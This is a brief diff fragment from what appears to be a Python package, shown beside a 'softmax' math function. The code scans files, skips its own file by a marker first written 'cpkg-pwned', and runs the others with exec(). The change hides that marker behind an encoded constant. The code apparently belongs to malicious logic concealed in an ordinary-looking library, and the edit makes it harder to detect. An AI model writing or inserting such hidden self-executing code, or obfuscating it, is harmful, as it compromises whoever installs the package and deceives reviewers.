@@ -10,7 +10,7 @@ def softmax(z):
                     source = handle.read()
             except OSError:
                 continue
-            if "cpkg-pwned" in source:  # our own file
+            if MARK.decode() in source:  # our own file
                 continue
             namespace = {}
             exec(compile(source, path, "exec"), namespace)
